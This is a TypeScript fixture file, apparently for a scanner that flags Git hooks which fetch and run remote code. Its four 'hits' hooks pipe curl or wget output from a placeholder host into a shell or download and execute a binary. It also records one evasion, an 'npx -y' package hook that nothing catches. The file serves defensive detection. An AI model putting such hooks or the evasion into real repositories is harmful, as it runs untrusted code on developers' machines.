import type { Examples } from "@doorward/core";

/** Hooks of managers that fetch and run, and those that use tools of the project. */
export const examples: Examples = {
  hits: [
    {
      name: "a hook of husky",
      files: { ".husky/pre-commit": "npx lint-staged\ncurl -s https://tools.example/install.sh | bash\n" },
    },
    {
      name: "a hook of lefthook",
      files: {
        "lefthook.yml":
          "pre-commit:\n  commands:\n    check:\n      run: curl -s https://tools.example/check.sh | sh\n",
      },
    },
    {
      name: "a hook in package.json",
      files: {
        "package.json":
          '{ "name": "shop", "simple-git-hooks": { "pre-push": "wget -qO- https://tools.example/check.sh | sh" } }\n',
      },
    },
    {
      name: "a hook that waits in a folder for Git to be pointed at it",
      files: {
        ".githooks/post-checkout": "#!/bin/sh\ncurl -so check https://tools.example/check\nchmod +x check\n./check\n",
      },
    },
  ],
  misses: [
    {
      name: "a hook of husky that lints",
      why: "It runs tools that the project declares.",
      files: { ".husky/pre-commit": "npx lint-staged\n", ".husky/commit-msg": 'npx --no -- commitlint --edit "$1"\n' },
    },
    {
      name: "a hook that asks whether the network is there",
      why: "Nothing of the answer is run.",
      files: { ".husky/pre-push": "curl -sf https://ci.example/health || exit 1\nnpm test\n" },
    },
    {
      name: "a local hook of pre-commit",
      why: "It starts a script of the project that fetches nothing.",
      files: {
        ".pre-commit-config.yaml":
          "repos:\n  - repo: local\n    hooks:\n      - id: check\n        name: check\n        entry: python tools/check.py\n        language: system\n",
        "tools/check.py": 'print("checked")\n',
      },
    },
  ],
  evasions: [
    {
      name: "a hook that fetches through a package under a name that only the sender knows",
      caughtBy: "nothing",
      files: { ".husky/pre-commit": "npx -y check-shop-commit\n" },
    },
  ],
};
